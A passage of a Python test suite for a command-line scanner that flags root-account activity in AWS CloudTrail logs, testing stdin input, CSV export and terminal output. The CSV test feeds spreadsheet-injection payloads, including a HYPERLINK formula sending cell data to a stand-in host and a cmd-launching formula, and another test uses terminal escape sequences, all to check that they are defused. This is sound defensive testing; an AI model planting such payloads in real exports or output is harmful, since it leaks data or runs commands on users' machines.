        p = self.scan("-f", "ndjson", folder)
        self.assertNotIn(fifo, p.stderr_text, "without -v: counted, not named")
        self.assertEqual(parse_summary(p.stderr_text)["skipped"], 2)

    # ---- standard input -----------------------------------------------------------------------

    def test_stdin(self):
        with open(self.trail, "rb") as f:
            plain = f.read()
        with open(self.trail_gz, "rb") as f:
            gz = f.read()
        nd = "".join(json.dumps(r) + "\n" for r in fixture_records()).encode()
        for name, data, expect in [("CloudTrail file", plain, ROOT_IDS[:3]),
                                   ("gzip", gz, ROOT_IDS[3:]),
                                   ("NDJSON", nd, ROOT_IDS)]:
            with self.subTest(input=name):
                p = self.scan("-f", "ndjson", "-", stdin=data)
                alerts = rwtest.ndjson(p.stdout_text)
                self.assertEqual([a["eventID"] for a in alerts], expect)
                self.assertTrue(all(a["source"]["file"] == "-" for a in alerts))
        # - beside files, in order
        p = self.scan("-f", "ndjson", self.trail, "-", stdin=gz)
        self.assertEqual([a["eventID"] for a in rwtest.ndjson(p.stdout_text)], ROOT_IDS)
        # a byte order mark before the JSON (some Windows tools write one), through a pipe too
        p = self.scan("-f", "ndjson", "-", stdin=b"\xef\xbb\xbf" + plain)
        self.assertEqual([a["eventID"] for a in rwtest.ndjson(p.stdout_text)], ROOT_IDS[:3])

    # ---- CSV formula defusing -----------------------------------------------------------------

    def test_csv_defuses_formulas(self):
        agents = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0",
                  "-2+3", "@SUM(1+1)", "\tTAB", "aws-cli/2.15 =not-first"]
        recs = [rwtest.record("csv-%d" % i, userAgent=ua) for i, ua in enumerate(agents)]
        p = self.scan("-f", "csv", "-", stdin=rwtest.trail_bytes(recs))
        rows = list(csv.DictReader(io.StringIO(p.stdout_text, newline="")))
        self.assertEqual(len(rows), len(agents))
        for row, ua in zip(rows, agents):
            with self.subTest(userAgent=ua):
                if ua[0] in "=+-@\t":
                    self.assertEqual(row["userAgent"], "'" + ua, "a leading quote defuses it")
                else:
                    self.assertEqual(row["userAgent"], ua, "left as it is")
        # JSON keeps the text as it was
        p = self.scan("-f", "ndjson", "-", stdin=rwtest.trail_bytes(recs))
        self.assertEqual([a["userAgent"] for a in rwtest.ndjson(p.stdout_text)], agents)

    # ---- terminal safety -----------------------------------------------------------------------

    def test_no_control_characters_reach_the_terminal(self):
        # text from a record is shown, never obeyed: an escape sequence in it is made harmless in
        # the table and in error messages, and kept exactly in JSON
        name = "Create\x1b]0;owned\x07User\x1b[2J"
        rec = rwtest.record("escapes", name=name, region="us\u009beast-1", errorCode="Bad\x1b[31m")
        bad = rwtest.record("escapes-2", eventTime="2026-11-20\x1b[2J")  # a problem quoting it
        data = rwtest.trail_bytes([rec, bad])
        p = self.scan("-f", "table", "--color", "never", "-", stdin=data, rc=2)
        for ch in ("\x1b", "\x07", "\u009b"):
            self.assertNotIn(ch, p.stdout_text)
            self.assertNotIn(ch, p.stderr_text)
        self.assertIn("iam:Create?]0;owned?User?[2J", p.stdout_text)
        self.assertIn("2026-11-20?[2J", p.stderr_text)
        p = self.scan("-f", "ndjson", "-", stdin=data, rc=2)
        alerts = rwtest.ndjson(p.stdout_text)
        self.assertEqual(alerts[0]["eventName"], name)
        self.assertEqual(alerts[0]["region"], "us\u009beast-1")

    # ---- nothing but root ---------------------------------------------------------------------

    def test_only_root_is_reported(self):
        # every container of a trail with many traps: exactly the truth, never a trap
        corpus = rwtest.ctgen(3, 23, root_per_mb=3, traps_per_mb=15)
        self.assertGreater(len(rwtest.traps(corpus)), 20)
        for src in ("AWSLogs", "eventbridge.ndjson", "cloudwatch.ndjson", "lookup-events.json"):
            with self.subTest(source=src):
                p = self.scan("-f", "ndjson", os.path.join(corpus, src))
                ok, details = rwtest.score(corpus, rwtest.ndjson(p.stdout_text))
                self.assertTrue(ok, details)
        alerts, _ = self.fixture_alerts()
        self.assertFalse([a for a in alerts if a["eventID"].startswith("ordinary")])
        self.assertTrue(all(a["event"]["userIdentity"]["type"] == "Root" for a in alerts))


if __name__ == "__main__":
    rwtest.main()
